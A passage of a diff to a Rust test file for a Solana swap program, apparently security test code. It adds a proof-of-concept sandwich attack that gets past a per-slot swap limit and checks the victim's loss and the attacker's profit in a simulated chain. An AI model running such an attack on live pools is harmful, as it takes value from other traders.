+            attacker_b.amount,
+            1,
+            expiration,
+        );
+        send_tx(&mut state.svm, &[back_run_ix], &state.attacker, &[&state.attacker])
+    }
+
+    fn assert_impact(&self, state: &mut SlotSwapLimitBypassState) -> u64 {
+        let attacker_ata_a = spl_associated_token_account::get_associated_token_address(
+            &state.attacker.pubkey(),
+            &state.mint_a,
+        );
+        let attacker_a: spl_token::state::Account = get_spl_account(&state.svm, &attacker_ata_a).unwrap();
+
+        println!();
+        assert_eq!(
+            state.svm.get_sysvar::<Clock>().slot,
+            state.slot,
+            "All three swaps should land in one slot"
+        );
+
+        // ~90.7 B without the sandwich: 99.7 A net of fee into 1,000 A / 1,000 B
+        // ~54.8 B with it: the front-run left the pool at 1,300 A / ~769.8 B
+        assert!(state.victim_b < 60_000_000_000, "Victim should be filled far below the fair price");
+        println!("[RESULT] Victim received {} B instead of about 90.7 B", state.victim_b);
+
+        // ~340.3 A back for 300 A in
+        assert!(attacker_a.amount > SLOT_LIMIT_FRONT_RUN, "Sandwich should be profitable");
+        let profit = attacker_a.amount - SLOT_LIMIT_FRONT_RUN;
+        assert!(profit > 35_000_000_000, "Profit: {}", profit);
+        println!("[RESULT] Attacker turned {} A into {} A", SLOT_LIMIT_FRONT_RUN, attacker_a.amount);
+        println!(
+            "[IMPACT] {} A extracted in one slot, with {}% of the A reserve swapped against a {}bp cap",
+            profit,
+            (SLOT_LIMIT_FRONT_RUN + SLOT_LIMIT_VICTIM_SWAP) * 100 / SLOT_LIMIT_POOL_LIQUIDITY,
+            SLOT_LIMIT_BPS
+        );
+
+        profit
+    }
+}
 
-    println!();
-    println!("[LESSON] Always validate expiration timestamp against current clock");
-    println!("================================================================================\n");
+#[test]
+fn test_exploit_slot_swap_limit_bypass() {
+    run_exploit(&SlotSwapLimitBypass);
 }
 
 #[test]
@@ -845,7 +3032,7 @@ fn test_all_basic_operations_work() {
     println!("[OK] Token swap");
 
     // Withdraw liquidity
-    let (pool_config, _) = derive_pool_config_pda(&mint_a, &mint_b);
+    let (pool_config, _) = derive_pool_config_pda(&mint_a, &mint_b, POOL_FEE_TIER);
     let (lp_mint, _) = derive_lp_mint_pda(&pool_config);
     let user_lp_ata = spl_associated_token_account::get_associated_token_address(&user.pubkey(), &lp_mint);
     let lp_account: spl_token::state::Account = get_spl_account(&svm, &user_lp_ata).unwrap();